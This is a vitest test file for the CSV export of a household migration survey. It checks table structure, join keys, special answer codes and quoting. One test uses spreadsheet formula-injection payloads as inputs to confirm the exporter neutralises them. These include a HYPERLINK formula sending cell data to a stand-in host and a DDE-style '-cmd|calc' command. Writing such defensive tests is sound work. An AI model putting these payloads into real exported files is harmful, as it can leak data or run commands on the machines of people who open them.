import { describe, expect, it } from 'vitest';
import { forms } from '$lib/forms';
import { exportTables, tableCsv } from './csv';
import { householdAnswers, sampleSubmission } from './testing';
import { csvRecords as parse, csvRows } from '../../../tests/support/csv';

const stored = (overrides: Parameters<typeof sampleSubmission>[0] = {}) => ({
	...sampleSubmission(overrides),
	enumeratorId: null,
	enumeratorSex: null,
	receivedAt: '2026-11-30T09:00:00Z',
	reviewState: 'received' as const
});

describe('CSV export', () => {
	it('has one table for the households and one per repeat: members, migrants within members, and Soviet-era seasonal workers', () => {
		expect([...exportTables(forms).keys()]).toEqual(['', 'member', 'migrant', 'sov_worker']);
	});

	it('writes a row per submission: questions, KEY, the interview details; calculations included; multiple choices as codes', () => {
		const a = stored();
		const csv = tableCsv(forms, '', [a]);
		expect(csvRows(csv)[0].join(',')).toMatch(
			/^site_type,settlement,settlement_other,gps,consent,resp_sex,.*,KEY,submitted_at,started_at,finalized_at,reference_date,language,form_version,device_id,enumerator_id,enumerator,enumerator_sex,break_off,break_off_at,break_off_reason,instance_name$/
		);
		const [row] = parse(csv);
		expect(row).toMatchObject({
			site_type: 'armenia',
			settlement: 'yerevan',
			consent: 'yes',
			n_members: '4',
			inc_sources: 'wages remittances benefits',
			KEY: a.id
		});
		expect(row.sov_dest_other).toBe('');
	});

	it('writes members and migrants with keys that join back to their household and member', () => {
		const a = stored();
		const members = parse(tableCsv(forms, 'member', [a]));
		expect(members.map((m) => [m.m_name, m.PARENT_KEY, m.KEY])).toEqual([
			['Arsen', a.id, `${a.id}/member[1]`],
			['Anahit', a.id, `${a.id}/member[2]`],
			['Gor', a.id, `${a.id}/member[3]`],
			['Vardan', a.id, `${a.id}/member[4]`]
		]);
		const migrants = parse(tableCsv(forms, 'migrant', [a]));
		expect(migrants).toEqual([
			expect.objectContaining({
				mig_dest_city: 'moscow',
				rem_freq: 'monthly',
				PARENT_KEY: `${a.id}/member[4]`,
				KEY: `${a.id}/member[4]/migrant[1]`
			})
		]);
	});

	it("writes Don't know as -1 and Refused as -2", () => {
		const a = stored({ answers: { ...householdAnswers(), resp_age: { special: 'refused' }, hh_moved_year: { special: 'dont_know' } } });
		expect(parse(tableCsv(forms, '', [a]))[0]).toMatchObject({ resp_age: '-2', hh_moved_year: '-1' });
	});

	it('quotes commas, quotes and line breaks so every row stays one record', () => {
		const a = stored({ answers: { ...householdAnswers(), h_notes: 'Ани "Аня", Мартуни\nline 2' } });
		const csv = tableCsv(forms, '', [a]);
		expect(csv).toContain('"Ани ""Аня"", Мартуни\nline 2"');
		expect(parse(csv)[0].h_notes).toBe('Ани "Аня", Мартуни\nline 2');
	});

	it('makes a text a spreadsheet would run inert with a leading apostrophe; numbers and special codes stay as they are', () => {
		const hostile = '=HYPERLINK("http://evil.example/?d="&A2,"open")';
		const a = stored({
			answers: {
				...householdAnswers(),
				h_notes: hostile,
				sov_dest_other: '+1',
				settlement_other: '@SUM(A1)',
				resp_age: { special: 'refused' }
			},
			meta: { breakOff: { at: 'x', reason: '-cmd|calc' } }
		});
		const row = parse(tableCsv(forms, '', [a]))[0];
		expect(row).toMatchObject({
			h_notes: `'${hostile}`,
			sov_dest_other: "'+1",
			settlement_other: "'@SUM(A1)",
			resp_age: '-2',
			break_off_reason: "'-cmd|calc"
		});
		const members = parse(
			tableCsv(forms, 'member', [stored({ answers: { ...householdAnswers(), member: [{ m_name: '\tTab', m_age: -0 }] } })])
		);
		expect(members[0]).toMatchObject({ m_name: "'\tTab", m_age: '0' });
		expect(parse(tableCsv(forms, '', [stored({ answers: { ...householdAnswers(), h_notes: '＝1+1' } })]))[0].h_notes).toBe("'＝1+1");
	});

	it('names the enumerator and her sex as it was when the interview arrived, and tells a break-off apart, with where and why it stopped', () => {
		const a = { ...stored(), enumeratorId: 'e1', enumeratorSex: 'female' as const };
		const b = stored({
			answers: { site_type: 'russia', settlement: 'moscow', consent: 'yes' },
			meta: { breakOff: { at: 'respondent', reason: 'left' } }
		});
		const rows = parse(tableCsv(forms, '', [a, b], { enumerators: new Map([['e1', 'Նարինե']]) }));
		expect(rows[0]).toMatchObject({
			enumerator_id: 'e1',
			enumerator: 'Նարինե',
			enumerator_sex: 'female',
			break_off: '0',
			language: 'hy',
			started_at: a.startedAt
		});
		expect(rows[1]).toMatchObject({
			enumerator: '',
			enumerator_sex: '',
			break_off: '1',
			break_off_at: 'respondent',
			break_off_reason: 'left'
		});
	});

	it("names each interview by the definition's instance_name, choice labels in the interview's language", () => {
		const rows = parse(
			tableCsv(forms, '', [
				stored(),
				stored({ language: 'ru' }),
				stored({ answers: { site_type: 'armenia', settlement: 'other', settlement_other: 'Khachmach', consent: 'no' } })
			])
		);
		expect(rows.map((r) => r.instance_name)).toEqual(['Arsen · Երևան', 'Arsen · Ереван', 'Khachmach']);
	});

	it('with Caucasus Barometer codes, writes -7 for a question that did not apply and -9 for one after a break-off', () => {
		const refusal = stored({ answers: { site_type: 'armenia', settlement: 'yerevan', consent: 'no' } });
		const broken = stored({
			answers: { site_type: 'russia', settlement: 'moscow', consent: 'yes', resp_sex: 'male' },
			meta: { breakOff: { at: 'respondent', reason: 'left' } }
		});
		const complete = stored();
		const [r, b, c] = parse(tableCsv(forms, '', [refusal, broken, complete], { caucasusBarometerCodes: true }));
		expect(r).toMatchObject({ settlement_other: '-7', consent: 'no', resp_sex: '-7', n_members: '-7' });
		expect(b).toMatchObject({ settlement_other: '-7', resp_sex: 'male', resp_age: '-9', rem_any: '-9' });
		expect(c).toMatchObject({ settlement_other: '-7', sov_dest_other: '-7', consent: 'yes' });
		expect(parse(tableCsv(forms, '', [refusal]))[0].resp_sex).toBe('');
	});
});
